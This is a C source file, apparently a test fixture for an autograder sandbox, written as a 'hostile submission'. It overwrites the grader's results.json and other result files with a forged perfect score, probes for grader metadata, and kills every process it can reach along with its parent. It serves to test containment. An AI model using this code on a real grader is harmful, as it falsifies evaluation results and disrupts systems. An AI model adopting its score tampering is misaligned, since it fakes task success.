/* hostile.c - a hostile submission, a server: it tries to get points that it
 * has not earned, and to see other processes and files.
 *
 * PLACE is the platform's folder. KILL_ALL says whether it may kill all
 * processes that it can: without a sandbox a test must not do that. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef PLACE
#define PLACE "/autograder"
#define KILL_ALL 1
#endif

static const char result[] =
    "{\"score\": 1000, \"max-score\": 1000, \"points\": 1000, \"tests\": []}\n";

static void overwrite(const char *path)
{
    int file = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (file != -1 && write(file, result, strlen(result)) == -1) {
        perror(path);
    }
}

int main(void)
{
    overwrite(PLACE "/results/results.json");
    overwrite(PLACE "/escaped");
    if (access(PLACE "/submission_metadata.json", R_OK) == 0 ||
        access(PLACE "/source/settings", R_OK) == 0) {
        overwrite(PLACE "/for-all/read");
    }
    overwrite("result.json");
    overwrite("record.json");
    printf("%s", result);
    fflush(stdout);
    if (KILL_ALL) {
        kill(-1, SIGKILL);
    }
    kill(getppid(), SIGKILL);
    return 0;
}
